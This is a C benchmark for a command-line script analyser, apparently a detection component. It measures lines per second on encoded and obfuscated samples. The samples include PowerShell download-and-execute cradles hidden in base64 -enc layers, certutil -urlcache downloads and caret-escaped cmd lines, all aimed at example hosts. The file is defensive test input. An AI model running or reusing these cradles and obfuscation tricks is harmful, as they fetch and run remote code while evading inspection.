/*
 * bench_script.c - script analyser throughput, single thread: command
 * lines analysed per second (sp_script_analyze with default limits,
 * result freed each time, as the pipeline stage does), per kind of line,
 * plus the prefilter's rate on benign lines.
 *
 *   single-layer   powershell -enc (one base64/UTF-16LE layer),
 *                  certutil -urlcache, a plain cmd.exe line
 *   multi-layer    -enc wrapping FromBase64String wrapping a cradle;
 *                  caret-escaped cmd launching powershell -enc
 *   prefilter      sp_script_worth_analyzing on benign process lines
 *
 *     build/bench/bench_script [seconds-per-case]     (default 1)
 *
 * The issue's target is >= 20,000 lines/s for typical single-layer lines;
 * each line says whether it is met.  Main thread only.
 */
#include "script.h"
#include "tests/unit/b64_test.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define TARGET_PER_SEC 20000.0

/* base64 of the UTF-16LE form of an ASCII string (PowerShell -enc) */
static char *enc16(const char *s)
{
    size_t n = strlen(s);
    unsigned char *u = malloc(2 * n + 1);
    char *out = malloc(4 * (2 * n + 2) / 3 + 8);
    for (size_t i = 0; i < n; i++) {
        u[2 * i] = (unsigned char)s[i];
        u[2 * i + 1] = 0;
    }
    t_b64_encode(u, 2 * n, out);
    free(u);
    return out;
}

static char *fmt(const char *f, const char *arg)
{
    size_t n = strlen(f) + strlen(arg) + 1;
    char *s = malloc(n);
    snprintf(s, n, f, arg);
    return s;
}

static double run_case(const char *name, char **lines, size_t n, double secs,
                       bool single_layer)
{
    struct sp_script_opts opts;
    sp_script_opts_default(&opts);
    unsigned long done = 0;
    size_t layers = 0;
    int64_t start = sp_now_us(), end = start + (int64_t)(secs * 1e6), now;
    do {
        for (int rep = 0; rep < 64; rep++) {
            const char *l = lines[done % n];
            struct sp_script_analysis a;
            if (sp_script_analyze(l, strlen(l), &opts, &a) != SP_OK) {
                fprintf(stderr, "bench_script: analysis failed\n");
                exit(1);
            }
            layers += a.deob.n_layers;
            sp_script_analysis_fini(&a);
            done++;
        }
        now = sp_now_us();
    } while (now < end);
    double rate = (double)done / ((double)(now - start) / 1e6);
    printf("  %-44s %9.0f lines/s  %6.1f us/line  (%.1f layers avg)%s\n", name, rate,
           1e6 / rate, (double)layers / (double)done,
           single_layer ? (rate >= TARGET_PER_SEC ? "  target met" : "  BELOW TARGET") : "");
    return rate;
}

static void run_prefilter(char **lines, size_t n, double secs)
{
    unsigned long done = 0, passed = 0;
    int64_t start = sp_now_us(), end = start + (int64_t)(secs * 1e6), now;
    do {
        for (int rep = 0; rep < 1024; rep++) {
            const char *l = lines[done % n];
            passed += sp_script_worth_analyzing(l, strlen(l));
            done++;
        }
        now = sp_now_us();
    } while (now < end);
    double rate = (double)done / ((double)(now - start) / 1e6);
    printf("  %-44s %9.0f lines/s  %6.3f us/line  (%lu of %lu passed)\n",
           "prefilter, benign process lines", rate, 1e6 / rate, passed, done);
}

int main(int argc, char **argv)
{
    double secs = argc > 1 ? atof(argv[1]) : 1.0;
    if (secs <= 0)
        secs = 1.0;

    char *e1 = enc16("IEX (New-Object Net.WebClient).DownloadString('http://update.example.org/a.ps1')");
    char *e2 = enc16("Get-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process -Force");
    char *ps_enc[] = {
        fmt("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand %s", e1),
        fmt("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -ep bypass -enc %s", e2),
    };
    char *certutil[] = {
        "certutil.exe -urlcache -split -f http://files.example.net/tool.exe C:\\Users\\Public\\tool.exe",
        "C:\\Windows\\System32\\certutil.exe -urlcache -f https://cdn.example.com/a/b/setup.msi %TEMP%\\setup.msi",
    };
    char *plain_cmd[] = {
        "C:\\Windows\\system32\\cmd.exe /c dir C:\\Users\\Public\\Documents /s /b",
        "cmd.exe /c copy \\\\fileserver\\deploy\\agent.msi C:\\Temp\\ && msiexec /i C:\\Temp\\agent.msi /qn",
    };

    /* multi-layer: -enc( FromBase64String( cradle ) ) and carets around it */
    const char *cradle = "IEX (New-Object Net.WebClient).DownloadString('http://update.example.org/b.ps1')";
    char inner[512];
    t_b64_encode((const unsigned char *)cradle, strlen(cradle), inner);
    char *mid = fmt("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s')))", inner);
    char *e3 = enc16(mid);
    char *multi[] = {
        fmt("powershell -nop -w hidden -enc %s", e3),
        fmt("c^m^d /c p^o^w^e^r^s^h^e^l^l -e^nc %s", e1),
    };

    char *benign[] = {
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=7 --field-trial-handle=1720,i,4838963393385914101,9188032126839402351,262144",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
        "/usr/lib/systemd/systemd-journald",
        "/usr/sbin/sshd -D -R",
    };

    printf("script analyser throughput, one thread, %.1f s per case\n", secs);
    printf(" single-layer (target >= %.0f lines/s):\n", TARGET_PER_SEC);
    run_case("powershell -enc", ps_enc, 2, secs, true);
    run_case("certutil -urlcache", certutil, 2, secs, true);
    run_case("plain cmd line", plain_cmd, 2, secs, true);
    printf(" multi-layer:\n");
    run_case("-enc > FromBase64String > cradle; carets", multi, 2, secs, false);
    printf(" hot-path prefilter:\n");
    run_prefilter(benign, SP_ARRAY_SIZE(benign), secs);
    run_case("full analysis of the same benign lines", benign, SP_ARRAY_SIZE(benign), secs,
             false);

    free(e1);
    free(e2);
    free(e3);
    free(mid);
    for (size_t i = 0; i < 2; i++) {
        free(ps_enc[i]);
        free(multi[i]);
    }
    return 0;
}
